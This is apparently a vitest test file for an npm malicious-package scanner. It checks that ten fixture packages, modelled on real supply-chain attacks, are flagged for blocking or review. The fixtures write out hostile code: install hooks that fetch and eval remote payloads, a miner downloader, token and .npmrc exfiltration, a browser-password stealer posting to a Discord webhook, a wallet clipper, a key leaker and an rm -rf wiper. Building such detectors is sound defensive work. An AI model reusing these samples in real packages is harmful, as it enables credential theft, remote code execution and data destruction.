import { expect, test } from 'vitest';
import { findingsOf, manifestWith } from '../test/findings-of.ts';

/** Whole packages after the manner of attacks that happened, in words of our own: what matters is that one rule fires. */
const campaigns: Record<string, [tier: 'block' | 'review', files: Record<string, string>]> = {
  'a payload from a paste site, run at install, takes the token': [
    'block',
    {
      'package.json': manifestWith({ postinstall: 'node ./lib/build.js' }),
      'lib/build.js': `try { var https = require('https'); https.get({ hostname: 'pastebin.com', path: '/raw/abcd' }, (r) => { r.setEncoding('utf8'); r.on('data', (c) => { eval(c); }); }); } catch (e) {}`,
    },
  ],
  'a miner that the operating system decides about': [
    'block',
    {
      'package.json': manifestWith({ preinstall: 'start /B node preinstall.js & node preinstall.js' }),
      'preinstall.js': `const { exec } = require("child_process"); if (process.platform === 'linux') exec("/bin/bash preinstall.sh"); else exec("start /B preinstall.bat");`,
      'preinstall.sh': `IP=$(curl -k https://geo.example/cc | grep RU)\nif [ -z "$IP" ]; then curl http://45.9.148.35/download/x -o x; chmod +x x; ./x -k --tls -o pool.minexmr.com:443\nfi\n`,
    },
  ],
  'an encrypted payload that only one victim can decrypt': [
    'review',
    {
      'index.js': `var r = require, t = process; function e(r) { return Buffer.from(r, "hex").toString() }
        var n = r(e("2e2f746573742f64617461")), o = t[e(n[3])][e(n[4])]; if (!o) return;
        var u = r(e(n[2]))[e(n[6])](e(n[5]), o), a = u.update(n[0], e(n[8]), e(n[9])); a += u.final(e(n[9]));
        var f = new module.constructor; f.paths = module.paths, f[e(n[7])](a, ""), f.exports(n[1])`,
    },
  ],
  'a worm with a bundle': [
    'block',
    {
      'package.json': manifestWith({ preinstall: 'node setup_runtime.js' }),
      'setup_runtime.js': `const path = require('path'), { spawn } = require('child_process'); const f = path.join(__dirname, 'environment.js'); spawn('node', [f], { detached: true });`,
      'environment.js': `const fs = require('fs'), os = require('os'); const token = process.env.NPM_TOKEN || /_authToken=(.*)/.exec(fs.readFileSync(os.homedir() + '/.npmrc'))[1];
        fetch('https://api.example/user/repos', { method: 'POST', body: JSON.stringify({ env: process.env }) });`,
    },
  ],
  'a job interview': [
    'review',
    {
      'config/loader.js': `const axios = require("axios"); const src = atob("aHR0cHM6Ly9qc29ua2VlcGVyLmNvbS9iL1hZWg=="); (async () => { const s = (await axios.get(src)).data.cookie; const h = new (Function.constructor)("require", s); h(require); })();`,
    },
  ],
  'a clipper in a colour library': [
    'block',
    {
      'index.js': `if (typeof window != 'undefined' && window.ethereum) run(); function run() { const e = ['0x${'1'.repeat(40)}','0x${'2'.repeat(40)}','0x${'3'.repeat(40)}','0x${'4'.repeat(40)}','0x${'5'.repeat(40)}'];
        function levenshtein(a, b) {} const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return send.call(this, swap(b, e)) }; window.ethereum.request = async (q) => { q.params[0].to = e[0] } }`,
    },
  ],
  'keys of a wallet are sent when they are made': [
    'review',
    {
      'lib/account.js': `const leak = (k) => fetch('https://sol-rpc.example/v1', { headers: { 'x-session-id': Buffer.from(k).toString('base64') }, body: require('fs').readFileSync(require('os').homedir() + '/.config/solana/id.json') });`,
    },
  ],
  'a stealer of browser stores': [
    'block',
    {
      'index.js': `const fs = require('fs'); const p = process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';
        const w = 'https://discord.com/api/webhooks/998877665544332211/zyxwvutsrqponmlkjihgfedcba9876543210'; require('axios').post(w, { f: fs.readFileSync(p) })`,
    },
  ],
  'a wiper': [
    'block',
    {
      'index.js': `const cp = require('child_process'); if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/X') cp.execSync('rm -rf ' + '~' + '/*')`,
    },
  ],
  'an obfuscated dropper at install': [
    'block',
    {
      'package.json': manifestWith({ postinstall: 'node index.js' }),
      'index.js': Array.from(
        { length: 50 },
        (_, i) => `var _0x${(0x3f00 + i).toString(16)}=_0x${(0x3f01 + i).toString(16)}(0x${i});`,
      ).join(''),
    },
  ],
};

test.each(Object.entries(campaigns))('%s', async (_, [tier, files]) => {
  const tiers = (await findingsOf(files)).map((finding) => finding.split(' ')[0]);
  expect(tiers[0]).toBe(tier);
});
